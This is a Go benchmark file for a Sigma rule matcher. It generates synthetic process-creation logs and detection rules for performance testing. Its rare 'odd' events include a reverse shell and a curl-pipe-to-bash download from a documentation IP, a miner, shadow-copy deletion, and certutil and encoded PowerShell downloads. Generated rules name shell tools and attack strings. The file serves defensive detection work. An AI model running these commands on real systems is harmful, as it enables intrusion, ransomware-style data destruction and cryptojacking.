package sigma

import (
	"fmt"
	"math/rand"
	"strings"
	"testing"
)

// hosts makes events as hosts make them: mostly daily work with paths, options and identifiers of usual length, and one in fifty that rules are about.
type hosts struct{ *rand.Rand }

func (h hosts) pick(list []string) string { return list[h.Intn(len(list))] }

var linuxCommands = []string{
	"/usr/bin/bash|bash -c 'cd /srv/app && ./manage.py migrate --noinput && ./manage.py collectstatic --noinput'", "/usr/bin/dash|/bin/sh -c test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
	"/usr/bin/python3.11|/usr/bin/python3 /usr/lib/unattended-upgrades/apt.systemd.daily install", "/usr/sbin/nginx|nginx: worker process", "/usr/bin/grep|grep -rn --include=*.py 'def handle' /srv/app/shop/views",
	"/usr/bin/sed|sed -e s/^[[:space:]]*//;s/[[:space:]]*$// /etc/postgresql/15/main/postgresql.conf", "/usr/lib/postgresql/15/bin/postgres|postgres: 15/main: autovacuum worker shop", "/usr/bin/git|git fetch --prune --tags origin +refs/heads/*:refs/remotes/origin/*",
	"/usr/bin/node|node --max-old-space-size=4096 /srv/web/node_modules/.bin/webpack --config webpack.prod.js --progress", "/usr/lib/jvm/java-17-openjdk-amd64/bin/java|java -Xms2g -Xmx2g -XX:+UseG1GC -Dfile.encoding=UTF-8 -jar /opt/shop/shop-service-2.14.1.jar --spring.profiles.active=prod",
	"/usr/bin/rsync|rsync -a --delete --numeric-ids /srv/data/ backup@192.0.2.17:/backup/web1/", "/usr/bin/find|find /var/lib/php/sessions/ -ignore_readdir_race -depth -mindepth 1 -name sess_* -type f -cmin +24 -delete", "/usr/bin/systemctl|systemctl reload nginx.service", "/usr/bin/dpkg|/usr/bin/dpkg --status-fd 30 --no-triggers --unpack --auto-deconfigure /var/cache/apt/archives/libssl3_3.0.15-1_amd64.deb",
	"/usr/bin/docker|docker compose -f /srv/stack/compose.yaml up -d --remove-orphans", "/usr/bin/awk|awk {print $1,$7,$9} /var/log/nginx/access.log", "/usr/sbin/logrotate|/usr/sbin/logrotate /etc/logrotate.conf", "/usr/bin/tar|tar --create --zstd --file /backup/etc-2026-03-14.tar.zst /etc /usr/local/etc",
	"/usr/bin/make|make -j8 -C build all", "/usr/lib/gcc/x86_64-linux-gnu/12/cc1|/usr/lib/gcc/x86_64-linux-gnu/12/cc1 -quiet -imultiarch x86_64-linux-gnu -D_FORTIFY_SOURCE=2 src/main.c -quiet -dumpbase main.c -O2 -Wall -o /tmp/ccXkQ1aZ.s", "/usr/bin/ssh|ssh -o BatchMode=yes deploy@app2.example.net uptime", "/usr/bin/curl|curl -fsS --max-time 10 http://127.0.0.1:8080/healthz", "/usr/bin/sudo|sudo -n systemctl status postgresql", "/usr/bin/ls|ls --color=auto -la /srv/app/releases",
}

var windowsCommands = []string{
	`C:\Windows\System32\svchost.exe|C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule|Host Process for Windows Services`, `C:\Program Files\Google\Chrome\Application\chrome.exe|"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id=412 --time-ticks-at-unix-epoch=-1773479230 --mojo-platform-channel-handle=8564 /prefetch:1|Google Chrome`,
	`C:\Windows\System32\conhost.exe|\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1|Console Window Host`, `C:\Windows\System32\taskhostw.exe|taskhostw.exe Install $(Arg0)|Host Process for Windows Tasks`, `C:\Windows\System32\backgroundTaskHost.exe|"C:\Windows\system32\backgroundTaskHost.exe" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca|Background Task Host`,
	`C:\Windows\System32\RuntimeBroker.exe|C:\Windows\System32\RuntimeBroker.exe -Embedding|Runtime Broker`, `C:\Windows\System32\cmd.exe|cmd /c ver|Windows Command Processor`, `C:\Program Files\Git\mingw64\bin\git.exe|git.exe status --porcelain=v2 --branch --untracked-files=all|Git for Windows`, `C:\Windows\System32\wbem\WmiPrvSE.exe|C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding|WMI Provider Host`,
	`C:\Windows\System32\SearchProtocolHost.exe|"C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe1845_ Global\UsGthrCtrlFltPipeMssGthrPipe1845 1 -2147483646 "Software\Microsoft\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)"|Microsoft Windows Search Protocol Host`,
	`C:\Program Files\WindowsApps\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\ms-teams.exe|"C:\Program Files\WindowsApps\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\ms-teams.exe" msteams:system-initiated|Microsoft Teams`, `C:\Windows\System32\msiexec.exe|C:\Windows\system32\msiexec.exe /V|Windows Installer`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe|powershell.exe -NoProfile -File C:\Scripts\Inventory\Get-Inventory.ps1 -Verbose|Windows PowerShell`,
	`C:\Program Files\nodejs\node.exe|"C:\Program Files\nodejs\node.exe" "C:\Users\build\AppData\Roaming\npm\node_modules\yarn\bin\yarn.js" install --frozen-lockfile|Node.js JavaScript Runtime`, `C:\Windows\System32\rundll32.exe|C:\Windows\System32\rundll32.exe shell32.dll,SHCreateLocalServerRunDll {9aa46009-3ce0-458a-a354-715610a075e6} -Embedding|Windows host process (Rundll32)`, `C:\Windows\System32\dllhost.exe|C:\Windows\system32\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}|COM Surrogate`,
}

var oddCommands = []string{
	`/usr/bin/curl|curl -fsSL http://198.51.100.9/x.sh | bash`, `/usr/bin/bash|bash -i >& /dev/tcp/198.51.100.9/4444 0>&1`, `/tmp/.x/kdevtmpfsi|./kdevtmpfsi --donate-level=1 -o stratum+tcp://pool.example.net:3333`, `/usr/bin/chattr|chattr -i /etc/ld.so.preload`,
	`C:\Windows\System32\whoami.exe|whoami /priv|whoami - displays logged on user information`, `C:\Windows\System32\cmd.exe|cmd.exe /c vssadmin delete shadows /all /quiet|Windows Command Processor`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe|powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA|Windows PowerShell`, `C:\Windows\System32\certutil.exe|certutil -urlcache -split -f http://198.51.100.9/a.exe C:\Users\Public\a.exe|CertUtil.exe`,
}

func (h hosts) hex(n int) string { return fmt.Sprintf("%0*X", n, h.Uint64())[:n] }

func (h hosts) event() Event {
	list, windows := linuxCommands, h.Intn(2) == 0
	if windows {
		list = windowsCommands
	}
	run := strings.SplitN(h.pick(list), "|", 3)
	if h.Intn(50) == 0 {
		odd := h.pick(oddCommands)
		if run = strings.SplitN(odd, "|", 3); odd[0] == '/' {
			run = strings.SplitN(odd, "|", 2)
		}
		windows = odd[0] != '/'
		if windows {
			list = windowsCommands
		} else {
			list = linuxCommands
		}
	}
	parent := strings.SplitN(h.pick(list), "|", 3)
	if !windows {
		if len(run) == 3 {
			run = []string{run[0], run[1] + "|" + run[2]}
		}
		return Event{Source: LogSource{Category: "process_creation", Product: "linux"}, Fields: []Field{
			{Name: "UtcTime", Value: "2026-03-14 09:21:07.412"}, {Name: "ProcessId", Value: fmt.Sprint(h.Intn(60000))}, {Name: "Image", Value: run[0]}, {Name: "CommandLine", Value: run[1]}, {Name: "CurrentDirectory", Value: h.pick([]string{"/", "/srv/app", "/root", "/home/deploy"})},
			{Name: "User", Value: h.pick([]string{"root", "www-data", "postgres", "deploy"})}, {Name: "LogonId", Value: fmt.Sprint(h.Intn(900))}, {Name: "ParentProcessId", Value: fmt.Sprint(h.Intn(60000))}, {Name: "ParentImage", Value: parent[0]}, {Name: "ParentCommandLine", Value: parent[1]},
		}}
	}
	return Event{Source: LogSource{Category: "process_creation", Product: "windows"}, Fields: []Field{
		{Name: "UtcTime", Value: "2026-03-14 09:21:07.412"}, {Name: "ProcessGuid", Value: "{" + h.hex(8) + "-43f4-5c7a-0000-" + h.hex(12) + "}"}, {Name: "ProcessId", Value: fmt.Sprint(h.Intn(60000))}, {Name: "Image", Value: run[0]}, {Name: "FileVersion", Value: "10.0.19041.3636 (WinBuild.160101.0800)"},
		{Name: "Description", Value: run[len(run)-1]}, {Name: "Product", Value: "Microsoft® Windows® Operating System"}, {Name: "Company", Value: "Microsoft Corporation"}, {Name: "OriginalFileName", Value: run[0][strings.LastIndexByte(run[0], '\\')+1:]}, {Name: "CommandLine", Value: run[1]},
		{Name: "CurrentDirectory", Value: `C:\Windows\system32\`}, {Name: "User", Value: h.pick([]string{`NT AUTHORITY\SYSTEM`, `CONTOSO\mmueller`, `NT AUTHORITY\NETWORK SERVICE`})}, {Name: "LogonId", Value: "0x3e7"}, {Name: "IntegrityLevel", Value: h.pick([]string{"System", "Medium", "High"})},
		{Name: "Hashes", Value: "MD5=" + h.hex(16) + h.hex(16) + ",SHA256=" + h.hex(16) + h.hex(16) + h.hex(16) + h.hex(16) + ",IMPHASH=" + h.hex(16) + h.hex(16)}, {Name: "ParentProcessId", Value: fmt.Sprint(h.Intn(60000))}, {Name: "ParentImage", Value: parent[0]}, {Name: "ParentCommandLine", Value: parent[1]}, {Name: "ParentUser", Value: `NT AUTHORITY\SYSTEM`},
	}}
}

func (h hosts) events(n int) []Event {
	out := make([]Event, n)
	for i := range out {
		out[i] = h.event()
	}
	return out
}

// ownRules makes rules of the usual shapes: a program and one of its options, a parent and a child, words that must all be there, exclusions.
func ownRules(n int) []Source {
	programs := []string{"curl", "wget", "nc", "socat", "chattr", "crontab", "powershell", "cmd", "rundll32", "certutil", "regsvr32", "mshta", "wmic", "schtasks", "net", "python3", "perl", "php", "ruby", "openssl", "base64", "xxd", "useradd", "usermod", "systemctl", "insmod", "iptables", "vssadmin", "bitsadmin", "cscript"}
	options := []string{" -enc ", "--output ", " /create ", " delete shadows", "urlcache", "-decode", "/dev/tcp/", "http://", "javascript:", " -e /bin/sh", "scrobj.dll", " process call create", "import socket", "fsockopen", " -nop ", "DownloadString", " /transfer ", "--no-check-certificate", " -F ", "stop auditd"}
	var out []Source
	for i := range n {
		p, q, o := programs[i%len(programs)], programs[(i*7+3)%len(programs)], options[(i*3+i/30)%len(options)]
		source, slash, ext := "linux", "/", ""
		if i%3 != 0 {
			source, slash, ext = "windows", `\`, ".exe"
		}
		detection := ""
		switch i % 4 {
		case 0:
			detection = fmt.Sprintf("  selection_img: {Image|endswith: '%s%s%s'}\n  selection_cli: {CommandLine|contains: ['%s%d', '%s']}\n  condition: all of selection_*\n", slash, p, ext, o, i, o)
		case 1:
			detection = fmt.Sprintf("  selection:\n    ParentImage|endswith: ['%s%s%s', '%s%s%s']\n    CommandLine|contains|all: ['%s', 'rule%d']\n  filter: {User|contains: ['AUTHORI', 'AUTORI']}\n  condition: selection and not filter\n", slash, p, ext, slash, q, ext, o, i)
		case 2:
			detection = fmt.Sprintf("  selection_img:\n    - Image|endswith: '%s%s%s'\n    - OriginalFileName: '%s%s'\n  selection_opt: {CommandLine|contains|windash: [' -x%d ', ' -k ']}\n  filter_main_1: {CommandLine|contains: '%s'}\n  condition: all of selection_* and not 1 of filter_main_*\n", slash, p, ext, q, ext, i, o)
		case 3:
			detection = fmt.Sprintf("  selection: {CommandLine|re: '%s\\s+[^|]{%d,}\\|\\s*(ba)?sh'}\n  condition: selection\n", programs[i/4%len(programs)], 3+i%50)
		}
		out = append(out, Source{Name: fmt.Sprintf("own-%d.yml", i), Text: fmt.Sprintf("title: own %d\nid: own-%d\nlogsource:\n  category: process_creation\n  product: %s\ndetection:\n%s", i, i, source, detection)})
	}
	return out
}

// benchRules are 600 rules: of the corpus all for Linux and the first for Windows, or without a corpus our own.
func benchRules(b testing.TB) []Source {
	if src := corpus(b, "/linux/"); len(src) > 0 {
		return append(src, corpus(b, "/windows/")[:600-len(src)]...)
	}
	return ownRules(600)
}

// BenchmarkMatch is events a second of one core with 600 rules.
func BenchmarkMatch(b *testing.B) {
	benchmark(b, benchRules(b))
}

// BenchmarkMatchAll is the same with all rules of the corpus, or 1,400 of our own.
func BenchmarkMatchAll(b *testing.B) {
	src := corpus(b, "")
	if len(src) == 0 {
		src = ownRules(1400)
	}
	benchmark(b, src)
}

func benchmark(b *testing.B, sources []Source) {
	rs, err := Compile(Options{}, sources...)
	if err != nil {
		b.Fatal(err)
	}
	events := hosts{rand.New(rand.NewSource(1))}.events(4096)
	bytes := 0
	for i := range events {
		for _, f := range events[i].Fields {
			bytes += len(f.Value)
		}
	}
	m := rs.NewMatcher()
	hits := 0
	for i := range events {
		hits += len(m.Match(&events[i]))
	}
	b.ReportAllocs()
	i := 0
	before := cpuTime()
	for b.Loop() {
		m.Match(&events[i&4095])
		i++
	}
	if used := cpuTime() - before; used > 0 { // of the process: what others do on the machine does not count
		b.ReportMetric(float64(b.N)/used.Seconds(), "events/cpu-s")
	}
	b.ReportMetric(float64(len(rs.rules)), "rules")
	b.ReportMetric(float64(bytes)/4096, "bytes/event")
	b.ReportMetric(float64(hits)/4096, "hits/event")
}

// BenchmarkCompile compiles the 600 rules.
func BenchmarkCompile(b *testing.B) {
	src := benchRules(b)
	for b.Loop() {
		if _, err := Compile(Options{}, src...); err != nil {
			b.Fatal(err)
		}
	}
}
